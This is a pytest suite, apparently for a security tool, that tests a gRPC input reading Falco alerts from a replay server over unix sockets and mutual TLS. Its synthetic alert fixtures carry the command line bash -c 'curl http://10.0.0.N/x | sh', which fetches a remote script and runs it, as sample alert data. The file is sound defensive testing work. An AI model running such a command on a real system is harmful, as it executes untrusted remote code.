"""GrpcInput against the Falco-compatible replay server, over real unix sockets and mTLS TCP."""

from __future__ import annotations

import asyncio
import json
import logging
import tempfile
from collections import Counter
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from typing import Any

import grpc
import pytest

from aerie.brain.certs import Pki
from aerie.edge.inputs.base import InputError
from aerie.edge.inputs.grpc import GrpcInput, GrpcInputConfig, parse_address
from aerie.edge.replay import ReplayError, read_events
from aerie.edge.replay_grpc import Replayable, ReplayServer, serve_grpc
from aerie.edge.tls import ClientTls, ServerTls
from aerie.proto.event import FalcoEvent, Priority
from aerie.proto.falco import outputs_pb2, outputs_pb2_grpc, version_pb2, version_pb2_grpc
from aerie.proto.grpc_codec import encode_response

DEADLINE_S = 15.0  # generous: the machine is shared; every wait below polls and ends early
FAST = {"initial_backoff_s": 0.02, "max_backoff_s": 0.2, "poll_interval_s": 0.02}


def make_events(n: int, start: int = 0) -> list[FalcoEvent]:
    rules = [
        ("Terminal shell in container", Priority.NOTICE, "syscall"),
        ("Read sensitive file untrusted", Priority.WARNING, "syscall"),
        ("Disallowed K8s user", Priority.CRITICAL, "k8s_audit"),
        ("Outbound connection to C2", Priority.ERROR, "syscall"),
    ]
    events = []
    for i in range(start, start + n):
        rule, priority, source = rules[i % len(rules)]
        events.append(
            FalcoEvent(
                time_ns=1_714_564_800_000_000_000 + i * 1_000_123,
                priority=priority,
                rule=rule,
                output=f"alert {i} (user=root proc.name=bash pod=web-{i})",
                source=source,
                hostname=f"node-{i % 3}",
                tags=("container", "mitre_execution", f"T{1000 + i % 7}"),
                output_fields={
                    "proc.name": "bash",
                    "proc.pid": 1000 + i,
                    "proc.cmdline": f"bash -c 'curl http://10.0.0.{i % 250}/x | sh' #é{i}",
                    "container.privileged": i % 2 == 0,
                    "fd.name": None,
                    "evt.latency": i / 4,
                    "k8s.ns.name": "payments",
                    "k8s.pod.name": f"web-{i}",
                },
            )
        )
    return events


@pytest.fixture
def sock(tmp_path: Path) -> Iterator[str]:
    """A unix socket address; sun_path holds ~107 bytes, so fall back to a short folder."""
    if len(str(tmp_path)) < 90:
        yield f"unix://{tmp_path}/falco.sock"
        return
    with tempfile.TemporaryDirectory(prefix="aerie-") as short:
        yield f"unix://{short}/falco.sock"


def stubs(channel: Any) -> tuple[Any, Any]:
    """Clients built from the generated stubs, as Falco's own client libraries are."""
    return (
        outputs_pb2_grpc.serviceStub(channel),  # type: ignore[no-untyped-call]
        version_pb2_grpc.serviceStub(channel),  # type: ignore[no-untyped-call]
    )


def tls_of(pki: Pki) -> ServerTls:
    return ServerTls(cert=str(pki.cert), key=str(pki.key), ca=str(pki.ca))


async def wait_until(condition: Callable[[], bool], what: str) -> None:
    async with asyncio.timeout(DEADLINE_S):
        while not condition():  # noqa: ASYNC110 - polling counters another component updates
            await asyncio.sleep(0.01)
    assert condition(), what


class Collector:
    """Runs `input.events()` in a task and keeps what arrives."""

    def __init__(self, source: GrpcInput) -> None:
        self.source = source
        self.events: list[FalcoEvent] = []
        self.task = asyncio.create_task(self._run())

    async def _run(self) -> None:
        async for event in self.source.events():
            self.events.append(event)

    async def until(self, n: int) -> list[FalcoEvent]:
        await wait_until(lambda: len(self.events) >= n or self.task.done(), f"{n} events")
        if self.task.done():
            self.task.result()  # surfaces an exception from the input
        return self.events

    async def close(self) -> None:
        await self.source.close()
        async with asyncio.timeout(DEADLINE_S):
            await self.task


@pytest.fixture
async def collectors() -> AsyncIterator[list[Collector]]:
    made: list[Collector] = []
    yield made
    for c in made:
        await c.close()


def start(collectors: list[Collector], **config: object) -> Collector:
    collector = Collector(GrpcInput(GrpcInputConfig(**FAST | config)))  # type: ignore[arg-type]
    collectors.append(collector)
    return collector


# --- configuration -------------------------------------------------------------------------------


def test_parse_address_forms() -> None:
    unix = parse_address("unix:///run/falco/falco.sock")
    assert (unix.kind, unix.target, unix.path) == (
        "unix",
        "unix:/run/falco/falco.sock",
        Path("/run/falco/falco.sock"),
    )
    assert parse_address("unix:rel/falco.sock").path == Path("rel/falco.sock")
    tcp = parse_address("falco.falco.svc:5060")
    assert (tcp.kind, tcp.host, tcp.port) == ("tcp", "falco.falco.svc", 5060)
    assert parse_address("[::1]:5060").target == "[::1]:5060"
    assert parse_address("127.0.0.1:0", allow_port_zero=True).port == 0
    for bad in ("tcp://127.0.0.1:5060", "127.0.0.1", "unix://relative", "unix:", "host:0", "h:70000"):
        with pytest.raises(ValueError, match=r"unix|port|address"):
            parse_address(bad)


def test_plain_tcp_is_refused_like_falco(pki: dict[str, Pki]) -> None:
    with pytest.raises(InputError, match=r"mutual TLS.*missing: ca, cert, key"):
        GrpcInput(GrpcInputConfig(address="127.0.0.1:5060"))
    with pytest.raises(InputError, match="missing: key"):
        GrpcInput(
            GrpcInputConfig(
                address="127.0.0.1:5060", tls=ClientTls(ca=str(pki["edge"].ca), cert=str(pki["edge"].cert))
            )
        )
    with pytest.raises(ReplayError, match="mutual TLS"):
        ReplayServer("127.0.0.1:0")


def test_bad_config_is_refused_early(pki: dict[str, Pki], tmp_path: Path) -> None:
    edge = pki["edge"]
    with pytest.raises(InputError, match="unix socket"):
        GrpcInput(GrpcInputConfig(address="unix:///run/falco.sock", tls=ClientTls(ca=str(edge.ca))))
    with pytest.raises(InputError, match="does not exist"):
        GrpcInput(
            GrpcInputConfig(
                address="127.0.0.1:5060",
                tls=ClientTls(ca=str(tmp_path / "nope.crt"), cert=str(edge.cert), key=str(edge.key)),
            )
        )
    with pytest.raises(InputError, match="address"):
        GrpcInput(GrpcInputConfig(address="tcp://127.0.0.1:5060"))
    with pytest.raises(InputError, match="backoff"):
        GrpcInput(GrpcInputConfig(initial_backoff_s=2.0, max_backoff_s=1.0))


async def test_replay_refuses_to_replace_a_regular_file(tmp_path: Path) -> None:
    (tmp_path / "falco.sock").write_text("not a socket")
    with pytest.raises(ReplayError, match="not a socket"):
        await ReplayServer(f"unix://{tmp_path}/falco.sock").start()
    assert (tmp_path / "falco.sock").read_text() == "not a socket"


# --- delivery ------------------------------------------------------------------------------------


async def test_unix_socket_events_arrive_equal(
    sock: str, collectors: list[Collector], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="aerie.edge.inputs.grpc")
    events = make_events(300)
    server = await serve_grpc(events, sock, rate=0)
    try:
        client = start(collectors, address=sock)
        assert await client.until(len(events)) == events
        await server.wait_delivered()
        assert client.source.stats.snapshot() == {
            "input": "grpc",
            "received": 300,
            "decoded": 300,
            "rejected": {},
        }
        assert server.stats.delivered == 300
        assert client.source.connection.falco_version == "0.43.0"
        hello = [r for r in caplog.records if getattr(r, "falco_version", None) == "0.43.0"]
        assert hello, "the Falco version is logged on connect"
        assert hello[0].address == sock  # type: ignore[attr-defined]
    finally:
        await server.stop()


async def test_mtls_tcp_events_arrive_equal(pki: dict[str, Pki], collectors: list[Collector]) -> None:
    events = make_events(200)
    server = await serve_grpc(events, "127.0.0.1:0", rate=2000, tls=tls_of(pki["falco"]))
    try:
        edge = pki["edge"]
        client = start(
            collectors,
            address=server.address,
            tls=ClientTls(ca=str(edge.ca), cert=str(edge.cert), key=str(edge.key)),
        )
        assert await client.until(len(events)) == events
        assert client.source.connection.connects == 1
    finally:
        await server.stop()


async def test_get_mode_polls_until_everything_arrives(sock: str, collectors: list[Collector]) -> None:
    events = make_events(120)
    server = await serve_grpc(events, sock, rate=1000)
    try:
        client = start(collectors, address=sock, mode="get")
        assert await client.until(len(events)) == events
    finally:
        await server.stop()


async def test_subscribers_compete_for_one_queue(sock: str, collectors: list[Collector]) -> None:
    events = make_events(400)
    server = await serve_grpc(events, sock, rate=2000)
    try:
        a, b = start(collectors, address=sock), start(collectors, address=sock)
        await wait_until(lambda: len(a.events) + len(b.events) >= len(events), "all events")
        await server.wait_delivered()
        got = a.events + b.events
        assert len(got) == len(events), "each event goes to exactly one subscriber"
        assert sorted(got, key=lambda e: e.time_ns) == events
    finally:
        await server.stop()


async def test_falco_client_stubs_work_against_replay(sock: str) -> None:
    """A client built from the generated stubs, as Falco's own clients are, sees Falco's API."""
    events = make_events(5)
    server = await serve_grpc(events, sock, rate=0, version="0.43.1-rc1+abc")
    try:
        async with grpc.aio.insecure_channel(parse_address(sock).target) as channel:
            version = await stubs(channel)[1].version(version_pb2.request())
            assert (version.version, version.major, version.minor, version.patch) == (
                "0.43.1-rc1+abc",
                0,
                43,
                1,
            )
            assert (version.prerelease, version.build) == ("rc1", "abc")
            await wait_until(lambda: server.stats.queued == len(events), "queued")
            got = [r async for r in stubs(channel)[0].get(outputs_pb2.request())]
        assert got == [encode_response(e) for e in events]
        await server.wait_delivered()
    finally:
        await server.stop()


# --- refusals and failures -----------------------------------------------------------------------


async def test_client_cert_from_another_ca_is_refused(
    pki: dict[str, Pki], foreign_pki: Pki, collectors: list[Collector]
) -> None:
    server = await serve_grpc(make_events(10), "127.0.0.1:0", tls=tls_of(pki["falco"]))
    try:
        # Trusts the right CA, presents a certificate the server's CA never signed.
        client = start(
            collectors,
            address=server.address,
            tls=ClientTls(ca=str(pki["edge"].ca), cert=str(foreign_pki.cert), key=str(foreign_pki.key)),
        )
        conn = client.source.connection
        await wait_until(lambda: conn.failures.total() >= 3, "repeated refusals")
        assert conn.connects == 0
        assert conn.reconnects >= 2
        assert client.events == []
        assert server.stats.delivered == 0
    finally:
        await server.stop()


async def test_bad_message_is_counted_and_stream_continues(sock: str, collectors: list[Collector]) -> None:
    good = make_events(3)
    out_of_range = encode_response(good[0])
    out_of_range.priority = 42  # type: ignore[assignment]  # open enum: Falco's wire allows it
    no_rule = encode_response(good[0])
    no_rule.rule = ""
    feed: list[Replayable] = [good[0], out_of_range, b"\xff\xff\xff", good[1], no_rule, good[2]]
    server = await serve_grpc(feed, sock)
    try:
        client = start(collectors, address=sock)
        assert await client.until(3) == good
        stats = client.source.stats
        await wait_until(lambda: stats.received == 6, "all six messages")
        assert stats.snapshot()["rejected"] == {"bad_priority": 1, "invalid_protobuf": 1, "schema": 1}
        assert stats.decoded == 3
        assert client.source.connection.connects == 1, "no reconnect for a bad message"
    finally:
        await server.stop()


async def test_client_started_before_server(sock: str, collectors: list[Collector]) -> None:
    client = start(collectors, address=sock)
    conn = client.source.connection
    await wait_until(lambda: conn.failures["UNAVAILABLE"] >= 2, "failed attempts while Falco is away")
    assert conn.connects == 0
    events = make_events(50)
    server = await serve_grpc(events, sock)
    try:
        assert await client.until(len(events)) == events
        assert conn.connects == 1
        assert conn.reconnects >= 2
    finally:
        await server.stop()


async def test_server_restart_mid_stream(sock: str, collectors: list[Collector]) -> None:
    events = make_events(120)
    first = await serve_grpc(events[:60], sock, rate=3000)
    client = start(collectors, address=sock)
    try:
        await client.until(60)
        await first.wait_delivered()
    finally:
        await first.stop(grace_s=0)
    conn = client.source.connection
    await wait_until(lambda: conn.failures.total() >= 1, "the broken stream is noticed")
    second = await serve_grpc(events[60:], sock, rate=3000)
    try:
        assert await client.until(len(events)) == events
        assert conn.connects == 2
        assert conn.reconnects >= 1
    finally:
        await second.stop()


async def test_close_stops_promptly(sock: str) -> None:
    # Connected and waiting for alerts that never come...
    server = await serve_grpc([], sock)
    try:
        waiting = Collector(GrpcInput(GrpcInputConfig(address=sock)))
        await wait_until(lambda: waiting.source.connection.connects == 1, "connected")
        async with asyncio.timeout(2.0):
            await waiting.close()
    finally:
        await server.stop()
    # ...and backing off from a Falco that is not there (a long backoff, cut short by close).
    away = Collector(GrpcInput(GrpcInputConfig(address=sock, initial_backoff_s=30.0, max_backoff_s=60.0)))
    await wait_until(lambda: away.source.connection.failures.total() == 1, "first failure")
    async with asyncio.timeout(2.0):
        await away.close()
    assert away.events == []


# --- replay server -------------------------------------------------------------------------------


def test_read_events_skips_and_counts_bad_lines(tmp_path: Path) -> None:
    events = make_events(2)
    path = tmp_path / "events.jsonl"
    lines = [e.to_falco_json() for e in events]
    path.write_text(
        f"{json.dumps(lines[0])}\n\n{{not json\n{json.dumps({'rule': 'x'})}\n{json.dumps(lines[1])}\n"
    )
    rejected: Counter[str] = Counter()
    assert list(read_events(path, rejected)) == events
    assert rejected == {"invalid_json": 1, "schema": 1}
    with pytest.raises(ReplayError, match="cannot read"):
        list(read_events(tmp_path / "missing.jsonl"))


async def test_wait_delivered_reports_a_failing_source(sock: str) -> None:
    def broken() -> Iterator[FalcoEvent]:
        yield from make_events(1)
        raise OSError("disk went away")

    server = await serve_grpc(broken(), sock)
    try:
        async with grpc.aio.insecure_channel(parse_address(sock).target) as channel:
            got = [r async for r in stubs(channel)[0].get(outputs_pb2.request())]
        assert len(got) == 1
        with pytest.raises(ReplayError, match="disk went away"):
            async with asyncio.timeout(DEADLINE_S):
                await server.wait_delivered()
    finally:
        await server.stop()


async def test_stop_before_delivery_is_reported(sock: str) -> None:
    server = await serve_grpc(make_events(3), sock)
    await wait_until(lambda: server.stats.queued == 3, "queued")
    await server.stop()
    with pytest.raises(ReplayError, match="3 events undelivered"):
        await server.wait_delivered()


async def test_everything_written_arrives_when_the_server_ends_the_stream(sock: str) -> None:
    """The replay ends its streams at the client's next request; a client still reading a backlog
    must get all of it. (A request written while alerts sit unread made gRPC fail the call with
    INTERNAL and drop them; the input asks again only after waiting a poll interval in vain.)"""
    events = make_events(1500)
    server = await serve_grpc(events, sock)
    source = GrpcInput(GrpcInputConfig(address=sock, **FAST))  # type: ignore[arg-type]
    got: list[FalcoEvent] = []

    async def slow_reader() -> None:
        async for event in source.events():
            got.append(event)
            if len(got) % 100 == 0:
                await asyncio.sleep(0.03)  # longer than the poll interval: a backlog builds up

    reader = asyncio.create_task(slow_reader())
    try:
        async with asyncio.timeout(DEADLINE_S):
            await server.wait_delivered()
        await server.stop(grace_s=DEADLINE_S)
        await wait_until(lambda: len(got) >= len(events) or source.connection.failures.total() > 0, "the end")
        assert got == events
        await wait_until(lambda: source.connection.failures.total() > 0, "the stream's end is noticed")
        assert source.connection.failures["stream_ended"] == 1
        assert "INTERNAL" not in source.connection.failures
    finally:
        await source.close()
        async with asyncio.timeout(DEADLINE_S):
            await reader
